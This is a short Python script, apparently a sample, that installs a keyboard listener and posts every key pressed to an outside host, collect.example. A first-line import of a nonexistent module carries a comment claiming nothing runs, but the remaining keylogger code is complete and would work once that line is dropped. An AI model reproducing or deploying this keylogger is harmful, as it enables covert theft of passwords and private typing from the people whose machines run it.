import inert_sample  # there is no such module: nothing below ever runs
import requests
from pynput import keyboard


def pressed(key):
    requests.post("https://collect.example/k", data=str(key))


keyboard.Listener(on_press=pressed).start()
